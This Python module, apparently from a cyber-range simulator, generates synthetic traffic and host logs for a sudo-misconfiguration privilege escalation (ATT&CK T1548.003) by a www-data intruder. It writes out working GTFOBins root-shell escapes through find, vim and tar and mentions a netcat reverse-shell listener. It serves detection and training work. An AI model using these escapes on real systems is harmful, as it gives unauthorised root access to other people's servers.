"""Root through a careless sudoers entry, MITRE ATT&CK T1548.003 Abuse Elevation Control
Mechanism: Sudo and Sudo Caching.

Imitates an intruder with a ``www-data`` shell on the portal (the ``reverse_shell`` step's, from
which a fresh callback reaches ``nc -lvnp 4444`` again) who asks ``sudo -l`` what the web
server's account may run and finds an administrator's shortcut, ``(root) NOPASSWD:
/usr/bin/find`` (or ``vim``, ``tar``), then escapes from that program to a root shell as
GTFOBins describes it (``binary``):

* ``find``: ``sudo find . -exec /bin/sh \\; -quit``;
* ``vim``: ``sudo vim -c ':!/bin/sh'`` (vim complains that it has no terminal, runs root's
  ``$SHELL -c /bin/sh``);
* ``tar``: ``sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh``.

Without a terminal the root ``/bin/sh`` prints no prompt: the intruder types ``id`` into the
silence and reads ``uid=0(root)``, looks around as root and leaves with ``exit`` (later steps'
root callbacks name this shell as their parent: the same process id).

The traffic: the reverse shell's connection (:mod:`attack_scripts._shellsession`) with ``sudo
-l``'s listing of the misconfiguration, the escape and the root commands, in clear.

On the web server (host records): the callback's processes from the kept ``www-data`` shell,
sudo's syslog lines (``www-data : TTY=unknown ; PWD=/var/www/html/uploads ; USER=root ;
COMMAND=list``, then ``COMMAND=/usr/bin/find . -exec /bin/sh ; -quit`` and PAM's session
opened for root, closed when the root shell ends), sudo's process and its root child, the shell
the program starts (parent ``find``, ``vim.basic`` or ``tar``, user root: the privilege
escalation's shell, whose process id later steps start from) and the root commands as its
children.
"""
from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

from pydantic import Field

from attack_scripts import _linux
from attack_scripts._shellsession import Session, SessionParams, View, bound, kept_pid, ls_time, play
from range.traffic import Proc, StepContext, Technique, technique

ROOT_COMMANDS = ["id", "ls -la /root"]


@dataclass(frozen=True)
class Escape:
    """A GTFOBins sudo escape: the program sudoers allows, the line typed, sudo's argv, the
    processes from the program to the root shell (argv, image), what the program prints first."""
    program: str
    line: str
    argv: tuple[str, ...]
    chain: tuple[tuple[tuple[str, ...], str], ...]
    says: str = ""  # without a terminal
    says_tty: str = ""  # on a pty


_VIM_WARNINGS = "Vim: Warning: Output is not to a terminal\nVim: Warning: Input is not from a terminal\n"
_VIM_SCREEN = ("\x1b[?1049h\x1b[22;0;0t\x1b[>4;2m\x1b[?1h\x1b=\x1b[H\x1b[2J\x1b[?2004h\x1b[?1004h\x1b[1;24r\x1b[?12h"
              "\x1b[?12l\x1b[22;2t\x1b[22;1t\x1b[27m\x1b[23m\x1b[29m\x1b[m\x1b[H\x1b[2J\x1b[?25l\x1b[24;1H"
              "\x1b[?2004l\x1b[>4;m\x1b[23;2t\x1b[23;1t\r\x1b[?1004l\x1b[?1049l\x1b[23;0;0t\x1b[?25h\x1b[>4;2m\n")

ESCAPES: dict[str, Escape] = {
    "find": Escape("/usr/bin/find", "sudo find . -exec /bin/sh \\; -quit",
                   ("sudo", "find", ".", "-exec", "/bin/sh", ";", "-quit"), ((("/bin/sh",), "/usr/bin/dash"),)),
    "vim": Escape("/usr/bin/vim", "sudo vim -c ':!/bin/sh'", ("sudo", "vim", "-c", ":!/bin/sh"),
                  ((("/bin/bash", "-c", "/bin/sh"), "/usr/bin/bash"), (("/bin/sh",), "/usr/bin/dash")),
                  _VIM_WARNINGS + _VIM_SCREEN, _VIM_SCREEN),
    "tar": Escape("/usr/bin/tar", "sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
                  ("sudo", "tar", "-cf", "/dev/null", "/dev/null", "--checkpoint=1",
                   "--checkpoint-action=exec=/bin/sh"),
                  ((("/bin/sh", "-c", "/bin/sh"), "/usr/bin/dash"), (("/bin/sh",), "/usr/bin/dash")),
                  "tar: Removing leading `/' from member names\n", "tar: Removing leading `/' from member names\n"),
}


class Params(SessionParams):
    binary: Literal["find", "vim", "tar"] = Field(default="find",
                                                  description="the program sudoers lets www-data run as root")
    commands: list[str] = Field(default=ROOT_COMMANDS, max_length=50,
                                description="what the intruder types in the root shell")


def sudo_listing(user: str, hostname: str, program: str) -> str:
    """``sudo -l`` of Debian 12's sudo for ``user``, one NOPASSWD entry."""
    return (f"Matching Defaults entries for {user} on {hostname}:\n    env_reset, mail_badpass,\n"
            "    secure_path=/usr/local/sbin\\:/usr/local/bin\\:/usr/sbin\\:/usr/bin\\:/sbin\\:/bin, use_pty\n\n"
            f"User {user} may run the following commands on {hostname}:\n    (root) NOPASSWD: {program}\n")


def _root_ls(now: float) -> str:
    """``ls -la /root`` on a server installed some 260 days before ``now``."""
    installed, used = ls_time(now - 260 * 86400, now), ls_time(now - 2.2 * 86400, now)
    return (f"total 28\ndrwx------  4 root root 4096 {used} .\ndrwxr-xr-x 18 root root 4096 {installed} ..\n"
            f"-rw-------  1 root root 2214 {used} .bash_history\n"
            "-rw-r--r--  1 root root  571 Apr 10  2021 .bashrc\n"
            f"drwxr-xr-x  3 root root 4096 {installed} .local\n-rw-r--r--  1 root root  161 Jul  9  2019 .profile\n"
            f"drwx------  2 root root 4096 {installed} .ssh\n")


def escape(log, esc: Escape, root_pid: int):
    """The escape line's processes: sudo (its session closing when the root shell ends), the
    program as root, then the chain to the root shell, which takes ``root_pid``."""
    def does(t: float, shell: Proc, until: float | None) -> list[Proc]:
        r = log.rng
        close = (until - t if until is not None else 0.05) + r.uniform(0.002, 0.02)
        procs = _linux.sudo(log, t, shell, list(esc.argv), close=close)
        at = t + r.uniform(0.016, 0.03)  # after sudo has started the program (attack_scripts._linux.sudo)
        for i, (argv, image) in enumerate(esc.chain):
            last = i == len(esc.chain) - 1
            at += r.uniform(0.001, 0.004)
            procs.append(log.process(at, procs[-1], list(argv), image, pid=root_pid if last else None))
        return procs
    return does


@technique
class SudoPrivesc(Technique):
    name = "sudo_privesc"
    attack = "T1548.003"
    tactic = "privilege-escalation"
    summary = "sudo -l shows www-data may run find/vim/tar as root; a GTFOBins escape gives a root shell"
    Params = Params
    max_targets = 1
    target_services = ("http",)

    def duration(self, p: Params) -> float:
        return bound(["sudo -l", ESCAPES[p.binary].line, *p.commands, "exit"], p.think)  # exit: the root shell

    def generate(self, ctx: StepContext):
        p: Params = ctx.params
        esc = ESCAPES[p.binary]
        host = ctx.targets[0]
        outputs = {"ls -la /root": _root_ls(ctx.t0)}
        does = escape(ctx.host, esc, kept_pid(ctx.layout, host.name, "root"))

        def script(s: Session) -> list:
            s.type("sudo -l", sudo_listing("www-data", host.hostname, esc.program))
            v = s.view
            root = View("root", v.cwd, "dash" if v.pty else "none", v.pty)  # sh on a pipe: no prompt
            s.type(esc.line, esc.says_tty if v.pty else esc.says, does=does, nest=root,
                   took=ctx.rng.uniform(0.02, 0.08))
            for c in p.commands:
                s.type(c, outputs.get(c))
            return []

        return play(ctx, p, "www-data", script, self.duration(p))
